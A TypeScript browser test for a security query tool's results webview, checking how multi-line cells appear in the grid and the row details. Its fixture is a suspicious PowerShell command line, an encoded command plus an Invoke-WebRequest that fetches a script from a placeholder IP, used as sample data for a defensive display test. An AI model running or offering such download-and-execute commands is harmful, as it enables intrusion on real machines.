// Multi-line cells in the real results webview bundle, in Chromium: the grid
// marks each line break with ⏎ so a cell cannot hide its later lines, and the
// row details show every line.
import * as assert from 'node:assert/strict';
import type { QueryResult } from '../../src/results/model';
import { encodeChunks } from '../../src/webview/core/columnar';
import { resultHeader } from '../../src/webview/resultHeader';
import { openHarness, type Harness } from '../support/webviewHarness';

const COMMAND_LINE = 'powershell -enc SQBFAFgA\r\nInvoke-WebRequest http://203.0.113.7/a.ps1\nexit';

const RESULT: QueryResult = {
  status: 'Success',
  tables: [
    {
      name: 'PrimaryResult',
      columns: [
        { name: 'Account', type: 'string' },
        { name: 'CommandLine', type: 'string' },
      ],
      rows: [['bob@contoso.com', COMMAND_LINE]],
    },
  ],
  query: 'DeviceProcessEvents | take 1',
  target: { kind: 'defenderXdr', displayName: 'Contoso XDR' },
  startedAt: '2024-05-01T09:00:00Z',
  durationMs: 12,
};

describe('results webview multi-line cells', function () {
  this.timeout(120_000);
  let harness: Harness;

  before(async () => {
    harness = await openHarness({ viewport: { width: 1400, height: 900 } });
    await harness.send({ type: 'result', header: resultHeader(RESULT), settings: { timeZone: 'utc' } });
    for (const chunk of encodeChunks(RESULT.tables[0], 0)) {
      await harness.send({ type: 'chunk', chunk });
    }
    await harness.send({ type: 'complete' });
    await harness.page.locator('.data-row').first().waitFor();
  });

  after(async () => {
    await harness.close();
  });

  it('marks line breaks in the grid', async () => {
    const text = await harness.page.locator('.data-row .data-cell').nth(1).textContent();
    assert.equal(text, 'powershell -enc SQBFAFgA⏎Invoke-WebRequest http://203.0.113.7/a.ps1⏎exit');
  });

  it('shows every line in the details', async () => {
    await harness.page.locator('.data-row').first().dblclick();
    await harness.page.locator('.details:not([hidden]) dd').first().waitFor();
    const details = (await harness.page.locator('.details').textContent()) ?? '';
    assert.ok(details.includes('Invoke-WebRequest http://203.0.113.7/a.ps1\nexit'), details);
  });
});
